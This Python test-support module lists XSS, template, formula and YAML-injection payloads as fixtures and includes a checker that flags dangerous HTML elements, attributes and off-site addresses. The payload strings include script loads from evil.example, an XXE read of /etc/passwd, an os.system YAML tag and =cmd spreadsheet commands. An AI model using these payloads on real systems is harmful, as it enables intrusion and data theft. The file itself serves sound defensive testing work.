"""Texts that attack a site through its data, and what a page must not have, whatever was typed.

``XSS`` are classic attacks as strings; ``ODD`` are texts that break programs rather than pages. ``dangers(html)`` lists what
would run, load or lead astray in a page or a piece of one.
"""

import re
from collections.abc import Iterator

from lxml import html
from lxml.etree import ParserError

XSS = (
    # tags
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\x0c>alert(1)</script>", "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>", "<img src=x:alert(1) onerror=eval(src)>", "<IMG SRC=javascript:alert(1)>", "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert&#40;1&#41;</script></svg>", "<svg><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=data:text/html,<script>alert(1)</script>></object>", "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>", "<style>body{background:url(//evil.example/x)}</style>", "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<marquee onstart=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<x onclick=alert(1)>x</x>", "<a href='javascript:alert(1)'>x</a>", "<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "< img src=x onerror=alert(1)>", "<!--><script>alert(1)</script>-->", "<!-- --!><img src=x onerror=alert(1)>", "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php alert(1) ?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    # attributes that break out
    "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\" autofocus onfocus=alert(1) x=\"", "\"><svg onload=alert(1)>", "'><svg onload=alert(1)>", "` onmouseover=alert(1) `",
    "0;url=https://evil.example/\" http-equiv=\"refresh", "x\" style=\"position:fixed;inset:0", "x\" http-equiv=\"Content-Security-Policy\" content=\"script-src *", "\\\" onclick=alert(1) \\\"",
    # Markdown
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](javascript&#58;alert(1))", "[x](java&Tab;script:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))", "[x](//evil.example/)", "[x](http://evil.example/)", "[x]( https://evil.example/ \"onmouseover=alert(1)\")", "[x](<javascript:alert(1)>)",
    "[x][1]\n\n[1]: javascript:alert(1)", "[x][1]\n\n[1]: http://evil.example/", "[x]: data:text/html,x", "<javascript:alert(1)>", "<https://evil.example/>", "<mailto:x@evil.example>",
    "![x](javascript:alert(1))", "![x](https://evil.example/x.png)", "![x\" onerror=\"alert(1)](x.png)", "![x][1]\n\n[1]: https://evil.example/x.png", "[![x](//evil.example/x)](//evil.example)",
    "[x](index.md){onclick=alert(1)}", "[x](index.md){: onclick=\"alert(1)\" }", "*x*{: style=\"background:url(//evil.example)\" }", "*x*{onclick}", "x\n{: onload }", "{: .x\" onfocus }",
    "*x*{: #contenu .exit hidden }", "<div markdown=\"1\" onclick=\"alert(1)\">*x*</div>", "<p markdown=1><script>alert(1)</script></p>", "`<script>alert(1)</script>`", "    <script>alert(1)</script>",
    "<!--apart:0-->", "<!--apart:999999-->", "\x02klzzwxh:0000\x03", "\u0002wzxhzdk:0\u0003",
    # templates, formulas, style, entities, odd letters
    "{{ 7*7 }}", "{% raw %}", "{% include '/etc/passwd' %}", "{{ config.__class__ }}", "${7*7}", "#{7*7}", "{0.__class__}", "{treaty.__class__}", "%(x)s %n %s", "!ENV [HOME]",
    "expression(alert(1))", "background:url(javascript:alert(1))", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3c;script>", "&NewLine;javascript&colon;alert(1)",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u2039script\u203a", "+ADw-script+AD4-alert(1)", "javascript\u200b:alert(1)", "java\u00adscript:alert(1)", "\u202etpircs\u202c",
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"https://evil.example\",\"x\")", "\t=1+1", "|cmd|'/c calc'!A1", "=cmd|'/c calc'!A0", "\r\n=1+1", "＝1+1", "%0A%0DSet-Cookie: x=1",
    "a\r\nBEGIN:VCARD\r\nTEL:1", "\\n\\;\\,", "';alert(1)//", "\";alert(1)//", "\\u003cscript\\u003e", "\u2028alert(1)\u2029",
)  # fmt: skip
ODD = (
    "", " ", "\t", "\x00", "\x1b[2J", "\ufeff", "\ufffe", "\U0010ffff", "\u202e", "e\u0301" * 50, "ﷺ", "İ", "ß", "ǅ", "０１２", "²", "١٢٣", "𝟙", "\U0001f600", "a" * 3001, "-" * 4000, "[" * 3000, "![" * 1500,
    "- " * 1000 + "a", "> " * 1000, "[a](" * 800, "`" * 3000, "*" * 3000, "_a" * 1500, "." * 4000 + "x", "< " + " " * 4000 + "x", "{" + "=" * 4000, "## a" + " " * 4000 + "b", "[[" * 1000, "]]" * 1000, "((" * 1000,
    "~", "null", "true", "no", "yes", "on", ".inf", "-.inf", ".nan", "inf", "nan", "1e999", "-1e999", "9" * 400, "9" * 4400, "-0", "0x10", "1_000", "1.5", "1e3", "2026-02-30", "9999-99-99", "0000-01-01", "2026-11-23", "99999",
    "&a b", "*a", "!!python/object/apply:os.system ['id']", "!x y", "<<: *a", "? a", "- a", "{a: b}", "[a, b]", "[[]]", "{}", "[]", "|", ">-", "@a", "%a", "---", "...", "# a", "a: b: c", "'", '"', "\\", "`",
    "../../etc/passwd", "/etc/passwd", "..", ".", "con", "nul", "index", "TGO", "tgo", "XXX", "INT", "OTHER", "c143", "C143", "c143:9", "fr", "zz", "+22822213334", "+999999999999999", "117", "https://a.example/", "https://", "https://[",
    "http://a.example", "a@b.c", "a@b", "ilo", "[[?]]", "[[?:no-text]]", "[[?:x]]", "[[advice]]", "[[fr]]", "[[src:ilo]]", "[[block:x]]", "[[block:situations]]", "[[contacts:TGO]]", "[[contacts:XXX:a]]", "[[in:TGO]]", "[[in:XXX,]]", "[[c143:99]]", "[[c143/annex-1:6]]", "[[:]]", "[[]]",
)  # fmt: skip

_SCHEMES = ("https:", "mailto:", "tel:", "sms:")
_FORBIDDEN = {"script", "iframe", "object", "embed", "base", "style", "link", "meta", "form", "applet", "frame", "frameset", "template", "math", "marquee"}
_ADDRESSES = {"href", "src", "action", "formaction", "data", "poster", "srcset", "background", "xlink:href", "cite", "longdesc", "manifest", "ping"}
_SCHEME = re.compile(r"[a-z][a-z0-9+.-]*:")


def dangers(text: str, allowed: frozenset[str] = frozenset()) -> Iterator[str]:
    """Elements, attributes and addresses in a piece of HTML that no text of a reader's page needs."""
    try:
        tree = html.fragment_fromstring(f"<div>{text}</div>")
    except ParserError:
        tree = html.fragment_fromstring(text, create_parent="div")
    for element in tree.iter():
        if not isinstance(element.tag, str):
            yield f"<!{element.text}"
            continue
        if element.tag in _FORBIDDEN - allowed:
            yield f"<{element.tag}>"
        for name, value in element.attrib.items():
            leads_away = name in _ADDRESSES and not _harmless(element.tag, name, value)
            if leads_away or name.startswith("on") or name in ("style", "srcdoc", "http-equiv"):
                yield f"{name}={value}"


def _harmless(tag: str, name: str, value: str) -> bool:
    """True for an address inside the site, and for the four kinds of links that may lead out; nothing is loaded from elsewhere."""
    bare = "".join(c for c in value if ord(c) > 32).lower()
    if bare.startswith(("//", "\\", "/\\")):
        return False
    scheme = _SCHEME.match(bare)
    return not scheme or (name == "href" and tag in ("a", "area") and scheme[0] in _SCHEMES)
